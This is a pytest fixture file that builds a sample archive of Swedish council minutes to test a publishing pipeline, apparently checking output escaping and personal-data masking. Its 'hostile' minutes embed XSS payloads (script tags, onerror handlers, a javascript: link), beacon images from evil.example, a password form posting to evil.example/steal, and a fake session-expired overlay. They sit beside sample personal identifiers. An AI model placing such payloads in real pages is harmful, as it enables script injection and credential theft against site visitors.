"""A small real archive for the publish tests: one council's minutes (one of them hostile) and another council.

Built with the real ingest pipeline (no models: embeddings and enrichment
off); two items get topics written through the store, as enrichment would,
so the site has issue histories.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from radslag.config import CORPUS_DIR, load_settings

COUNCIL = "hallstahammar/trygghetsråd"
PNR = "19811218-9876"
EMAIL = "anna.svensson@example.se"
PHONE = "070-123 45 67"

HOSTILE = f"""---
kommun: Hallstahammar
organ: Trygghetsråd
datum: 2022-03-10
---

# Trygghetsråd

Datum och tid: 2022-03-10 klockan 17.30-19.00
Plats: Kommunhuset <img src="http://evil.example/place.png">

## 1. Trygghetsvandring i Kolbäck

Rådet diskuterade trygghetsvandringen i Kolbäck. Belysningen vid gångtunneln upplevs som dålig och flera boende känner sig otrygga där på kvällarna.

Beslut

Rådet beslutar att genomföra en ny trygghetsvandring i Kolbäck i maj.

## 2. Klotter <img src=x onerror=alert(9)> vid stationen

Klotter vid stationen har ökat under vintern. <script>alert(1)</script> Se bilden <img src="http://evil.example/beacon.png"> och [kartan](javascript:alert(2)).
<form action="http://evil.example/steal"><input type=password></form>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">Sessionen har gått ut</p>
Kontaktperson är Anna Svensson, personnummer {PNR}, e-post {EMAIL}, mobil {PHONE}.
Vi återkommer med en lägesbild till nästa möte.

## 3. Övrigt

Inga övriga frågor. Nästa möte hålls den 12 maj.
"""

OTHER = """---
kommun: Arboga
organ: Förebyggande rådet
datum: 2022-04-01
---

# Förebyggande rådet

## 1. Zebrafinkar i parken

Rådet talade om zebrafinkar i Ekbackens park och om motorburen ungdom på torget.
"""


@pytest.fixture(scope="session")
def publish_settings(tmp_path_factory):
    """Settings for the small archive (text only, topics written for two items)."""
    from index.store import Archive
    from ingest.pipeline import ingest_paths
    from radslag.taxonomy import load_taxonomy
    from radslag.types import TopicTag

    root = tmp_path_factory.mktemp("publish")
    docs = root / "docs"
    docs.mkdir()
    (docs / "hallstahammar-trygghetsrad-2022-03-10.md").write_text(HOSTILE, encoding="utf-8")
    (docs / "arboga-forebyggande-2022-04-01.md").write_text(OTHER, encoding="utf-8")
    settings = load_settings(archive_dir=root / "archive", embed=False, enrich=False)
    report = ingest_paths([str(docs), str(CORPUS_DIR / "hallstahammar-trygghetsrad-2021-09-15.txt")], settings,
                          progress=False)
    assert not report.failed, [(f.source, f.message) for f in report.failed]
    labels = {tp.id: tp.label_sv for tp in load_taxonomy()}
    with Archive(settings.db_path) as arc:
        items = arc.items()
        tags = {"Trygghetsvandring i Kolbäck": "trygghetsvandring", "Lägesbild": "motorburen-ungdom"}
        tagged = [item for item in items if item.title in tags]
        assert sorted(item.title for item in tagged) == sorted(tags)
        for item in tagged:
            tid = tags[item.title]
            arc.write_enrichment(item.id, [], [TopicTag(tid, labels[tid], 0.9)])
    return settings


@pytest.fixture(scope="session")
def site(publish_settings, tmp_path_factory) -> Path:
    """The council's site, published once (Swedish, masked by default)."""
    from publish import publish

    out = tmp_path_factory.mktemp("site") / "site"
    report = publish(publish_settings, COUNCIL, out)
    assert report.masked and report.meetings == 2
    return out
